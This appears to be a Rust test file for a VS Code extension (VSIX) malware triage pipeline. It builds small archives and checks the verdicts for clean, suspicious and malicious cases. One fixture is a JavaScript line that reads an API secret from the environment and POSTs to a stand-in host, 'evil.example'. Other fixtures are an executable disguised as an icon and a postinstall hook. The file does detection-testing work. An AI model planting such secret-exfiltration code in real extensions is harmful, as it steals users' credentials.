//! End-to-end scenarios against small in-memory VSIX-shaped archives,
//! covering the canonical clean/suspicious/malicious cases the pipeline is
//! expected to distinguish. Grounded in
//! `original_source/tests/test_triage_scenarios.py`.

use std::io::Write;

use triage_core::{TriageConfig, Verdict};
use triage_pipeline::{Pipeline, ReportBuilder, ReportInputs};
use triage_store::Store;
use zip::write::FileOptions;

fn archive_with(entries: &[(&str, &[u8])]) -> tempfile::NamedTempFile {
    let file = tempfile::NamedTempFile::new().unwrap();
    {
        let mut writer = zip::ZipWriter::new(file.reopen().unwrap());
        for (name, data) in entries {
            writer.start_file(*name, FileOptions::default()).unwrap();
            writer.write_all(data).unwrap();
        }
        writer.finish().unwrap();
    }
    file
}

fn clean_manifest() -> &'static [u8] {
    br#"{"publisher":"acme","name":"widgets","version":"1.0.0","displayName":"Widgets","main":"./extension.js","activationEvents":["onCommand:widgets.run"]}"#
}

#[tokio::test]
async fn s1_clean_extension_has_near_zero_composite_and_no_severe_findings() {
    let archive = archive_with(&[
        ("extension/package.json", clean_manifest()),
        ("extension/extension.js", b"module.exports.activate = () => {};\n"),
    ]);
    let pipeline = Pipeline::new(&TriageConfig::default());
    let result = pipeline.run(archive.path(), None, None).await.unwrap();

    assert!(result.composite_risk <= 0.05, "composite was {}", result.composite_risk);
    assert_eq!(result.critical_count(), 0);
    assert_eq!(result.high_count(), 0);
    assert_eq!(result.verdict, Verdict::Clean);
}

#[tokio::test]
async fn s2_wildcard_activation_is_flagged_but_does_not_alone_cross_the_escalation_threshold() {
    let manifest = br#"{"publisher":"acme","name":"widgets","version":"1.0.0","activationEvents":["*"]}"#;
    let archive = archive_with(&[("extension/package.json", manifest)]);
    let pipeline = Pipeline::new(&TriageConfig::default());
    let result = pipeline.run(archive.path(), None, None).await.unwrap();

    let manifest_result = result.manifest.result.as_ref().unwrap();
    assert!(manifest_result
        .findings
        .iter()
        .any(|f| f.category == "ACTIVATION_WILDCARD" && f.severity == triage_core::Severity::High));
    assert!(manifest_result.risk_score >= 0.15);
    assert_eq!(result.verdict, Verdict::Clean);
}

#[tokio::test]
async fn s3_hidden_executable_escalates_regardless_of_low_composite() {
    let mut pe_bytes = b"MZ".to_vec();
    pe_bytes.extend(std::iter::repeat(0u8).take(64));
    let archive = archive_with(&[
        ("extension/package.json", clean_manifest()),
        ("extension/assets/icon.png", &pe_bytes),
    ]);
    let pipeline = Pipeline::new(&TriageConfig::default());
    let result = pipeline.run(archive.path(), None, None).await.unwrap();

    assert_eq!(result.critical_count(), 1);
    assert!(result
        .forensic
        .result
        .as_ref()
        .unwrap()
        .findings
        .iter()
        .any(|f| f.category == "HIDDEN_EXECUTABLE"));
    assert!(result.verdict.is_escalated());
}

#[tokio::test]
async fn s4_postinstall_script_in_bundled_dependency_names_the_module() {
    let dep_manifest = br#"{"name":"sneaky-dep","version":"0.0.1","scripts":{"postinstall":"node ./setup.js"}}"#;
    let archive = archive_with(&[
        ("extension/package.json", clean_manifest()),
        ("extension/node_modules/sneaky-dep/package.json", dep_manifest),
    ]);
    let pipeline = Pipeline::new(&TriageConfig::default());
    let result = pipeline.run(archive.path(), None, None).await.unwrap();

    let manifest_result = result.manifest.result.as_ref().unwrap();
    assert!(manifest_result.findings.iter().any(|f| {
        f.category == "POSTINSTALL_SCRIPT" && f.description.contains("sneaky-dep")
    }));
}

#[tokio::test]
async fn s5_credential_access_and_data_exfiltration_rules_fire_together() {
    let src = b"const key = process.env.API_SECRET;\nfetch('https://evil.example/collect', {method: 'POST'});\n";
    let archive = archive_with(&[
        ("extension/package.json", clean_manifest()),
        ("extension/extension.js", src),
    ]);
    let pipeline = Pipeline::new(&TriageConfig::default());
    let result = pipeline.run(archive.path(), None, None).await.unwrap();

    let rules_result = result.rules.result.as_ref().unwrap();
    assert!(rules_result.findings.iter().any(|f| f.category == "credential_access"));
    assert!(rules_result.findings.iter().any(|f| f.category == "data_exfiltration"));
    assert!(rules_result.risk_score >= 0.30, "yara risk was {}", rules_result.risk_score);
}

#[tokio::test]
async fn s6_blocklisted_package_is_malicious_regardless_of_content() {
    let archive = archive_with(&[
        ("extension/package.json", clean_manifest()),
        ("extension/extension.js", b"module.exports.activate = () => {};\n"),
    ]);
    let pipeline = Pipeline::new(&TriageConfig::default());
    let pipeline_result = pipeline.run(archive.path(), None, None).await.unwrap();

    let store = Store::temporary().unwrap();
    let ext = triage_core::Extension {
        extension_id: "acme.widgets".to_string(),
        version: "1.0.0".to_string(),
        display_name: Some("Widgets".to_string()),
        vsix_hash_sha256: None,
        install_count: 0,
        average_rating: 0.0,
        publisher_id: Some("acme".to_string()),
        scan_state: triage_core::ScanState::Queued,
        latest_state: triage_core::LatestState::Pending,
        risk_score: None,
    };
    store.upsert_extension(ext).unwrap();
    for state in [
        triage_core::ScanState::Downloading,
        triage_core::ScanState::StaticScanning,
        triage_core::ScanState::StaticScanned,
    ] {
        store.update_scan_state("acme.widgets", "1.0.0", state).unwrap();
    }

    let builder = ReportBuilder::new(&store, TriageConfig::default().scoring);
    let inputs = ReportInputs { is_blocklisted: true, ..Default::default() };
    let report = builder.build("acme.widgets", "1.0.0", &pipeline_result, &inputs).unwrap();

    assert_eq!(report.verdict, Verdict::Malicious);
    assert!(report.confidence >= 0.8);
    assert_eq!(report.composite_score, 1.0);
}
